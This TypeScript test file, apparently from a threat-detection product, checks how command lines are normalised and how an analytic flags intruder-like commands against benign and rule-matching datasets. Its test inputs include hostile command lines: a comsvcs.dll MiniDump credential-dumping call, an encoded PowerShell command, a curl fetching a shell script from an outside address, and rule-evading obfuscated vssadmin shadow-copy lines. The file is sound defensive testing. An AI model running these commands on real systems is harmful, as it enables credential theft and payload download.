// Normal forms of command lines, and what the comparison with an intruder's finds in lines it was not written from.

import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gunzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { DAY_MS } from '../../core/index.ts'
import { migrateEvents } from '../../store/events-migrations.ts'
import { openEmbeddedEngine, sql, trusted, typed } from '../../store/index.ts'
import type { EventEngine } from '../../store/index.ts'
import { readAnalytics } from './analytic.ts'
import { BASELINES, addition } from './baselines.ts'
import { commandFormSql, programOfLineSql } from './command-form.ts'
import { runAnalytic } from './run-analytic.ts'

const folder = mkdtempSync(join(tmpdir(), 'vigie-forms-'))
let engine: EventEngine

beforeAll(async () => {
  engine = await openEmbeddedEngine({ folder, memoryMib: 1000, intakeLanes: 1, askLanes: 1 })
})

afterAll(async () => {
  await engine.close()
  rmSync(folder, { recursive: true, force: true })
})

async function formOf(line: string): Promise<string> {
  const { rows } = await engine.ask.query<{ form: string }>(
    sql`SELECT concat(${trusted(programOfLineSql('line'))}, ' ', ${trusted(commandFormSql('line'))}) AS form FROM (SELECT ${line} AS line)`,
  )
  return rows[0]?.form ?? ''
}

test.each([
  [
    'folders that say something, numbers and files without meaning',
    '"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Ana\\AppData\\Local\\Temp\\a.dmp full',
    'rundll0 <system>comsvcs.dll, minidump 0 <open><file>.dmp full',
  ],
  [
    'an unquoted path with blanks',
    'C:\\Program Files\\Agent 7\\Run.exe /job 17 "D:\\data\\plan of 2026.xlsx"',
    'run /job 0 <folder><file>.xlsx',
  ],
  [
    'hosts, addresses, shares and accounts',
    'net use \\\\files.town.example\\office\\x ana@town.example /server:10.20.1.4',
    'net use <share>x <account> /server:<address>',
  ],
  [
    'no password',
    'tool.exe --password "Winter 2026" -token=abc',
    'tool --password <secret> -token=<secret>',
  ],
  [
    'ids, payloads and messages',
    'x.exe {AC76BA86-7AD7-1033-7B44-AC0F074E4100} 0x4F S-1-5-21-1004 "Restart at 17:00, please save your work now"',
    'x <guid> 0 <sid> <words>',
  ],
  ['code', `powershell -enc ${'SQBFAFgAIAAoAE4AZQB3AC0A'.repeat(4)}==`, 'powershell -enc <code>'],
  [
    'Unix',
    '/usr/bin/curl -s https://203.0.113.9/a -o /tmp/a7/b.sh',
    'curl -s <url> -o <open>a0/b.sh',
  ],
  ['nothing', '', ' '],
])('%s', async (_, line, form) => {
  expect(await formOf(line)).toBe(form)
})

test('what is put in so that rules do not match is passed over', async () => {
  const plain = await formOf('vssadmin create shadow /for=C:')
  for (const line of ['v^ss^admin cr""eate sh^adow /for=C:', 'VSSADMIN   create  "shadow" /for=C:'])
    expect((await formOf(line)).replace(/^[^ ]+/, 'vssadmin')).toBe(plain)
})

test('a long hostile line costs no more than its beginning', async () => {
  expect((await formOf(`cmd ${'"(\\'.repeat(400_000)}`)).length).toBeLessThanOrEqual(310)
})

const CASES = join(import.meta.dirname, '../../../../shared/data/behaviour/amides')
const EventsSchema = z.object({ command_line: z.string(), kind: z.string() })

describe.skipIf(!existsSync(CASES))('with ../shared/data/behaviour/amides', () => {
  test('a fifth of lines that match rules is found, and two in a hundred ordinary ones', async () => {
    await migrateEvents(engine)
    const read = (name: string) => [
      ...new Set(
        linesOf(join(CASES, name)).map(
          (line) => EventsSchema.partial({ kind: true }).parse(JSON.parse(line)).command_line,
        ),
      ),
    ]
    const ordinary = read('benign_process_creation.jsonl')
    const matches = read('events.jsonl.gz')
    const found = { ordinary: 0, matches: 0 }
    for (const half of [0, 1]) {
      const learned = ordinary.filter((_, at) => at % 2 === half)
      const held = ordinary.filter((_, at) => at % 2 !== half)
      const devices = await foundAmong(learned, { held, matches })
      found.ordinary += devices.filter((device) => device.startsWith('held')).length
      found.matches += devices.filter((device) => device.startsWith('matches')).length
    }
    expect(found.matches / (2 * matches.length)).toBeGreaterThan(0.2)
    expect(found.ordinary / ordinary.length).toBeLessThanOrEqual(0.02)
  })
})

function linesOf(file: string): readonly string[] {
  const bytes = readFileSync(file)
  return (file.endsWith('.gz') ? gunzipSync(bytes) : bytes).toString().trim().split('\n')
}

/** Each line on a device of its own; those that are new today, and found. */
async function foundAmong(
  learned: readonly string[],
  today: Readonly<Record<string, readonly string[]>>,
): Promise<readonly string[]> {
  const nowMs = Date.parse('2026-03-20T15:00:00Z')
  const rows = [
    ...learned.map((line, at) => [`learned${at}`, line, nowMs - 10 * DAY_MS] as const),
    ...Object.entries(today).flatMap(([name, lines]) =>
      lines.map((line, at) => [`${name}-${at}-`, line, nowMs - 3_600_000] as const),
    ),
  ].map(([device, line, ms], at) =>
    JSON.stringify({ device, line, ms: String(ms), at: String(at) }),
  )
  for (const table of ['events', 'command_days'])
    await engine.ask.command(trusted(`TRUNCATE TABLE ${table}`))
  const path =
    "if(match(line, '^\\\\s*\"'), extract(line, '^\\\\s*\"([^\"]*)\"'), extract(line, '^\\\\s*(\\\\S+)'))"
  await engine.ask.command(
    sql`INSERT INTO events (time, received, batch, line, class_uid, activity_id, device_name, proc_cmd, proc_path)
SELECT time, time, 'golden', toUInt32(at), 1007, 1, device, line, ${trusted(path)}
FROM (SELECT fromUnixTimestamp64Milli(toInt64(ms), 'UTC') AS time, * FROM format(JSONEachRow, 'device String, line String, ms String, at String', ${typed('String', rows.join('\n'))}))`,
  )
  for (const baseline of BASELINES.filter(({ table }) => table === 'command_days'))
    await engine.ask.command(addition(baseline, sql`1`))
  const [analytic] = readAnalytics(
    join(import.meta.dirname, '../../../content/analytics'),
    (problem) => {
      throw problem
    },
  ).filter(({ id }) => id === 'vigie-command-line-like-an-intruders')
  if (analytic === undefined) throw new TypeError('no such analytic')
  const parameters = { ...analytic.parameters, least: 0 }
  const found = await runAnalytic(
    engine.ask,
    { ...analytic, parameters },
    { toMs: nowMs, settings: {} },
  )
  return found.map(({ entity }) => entity)
}
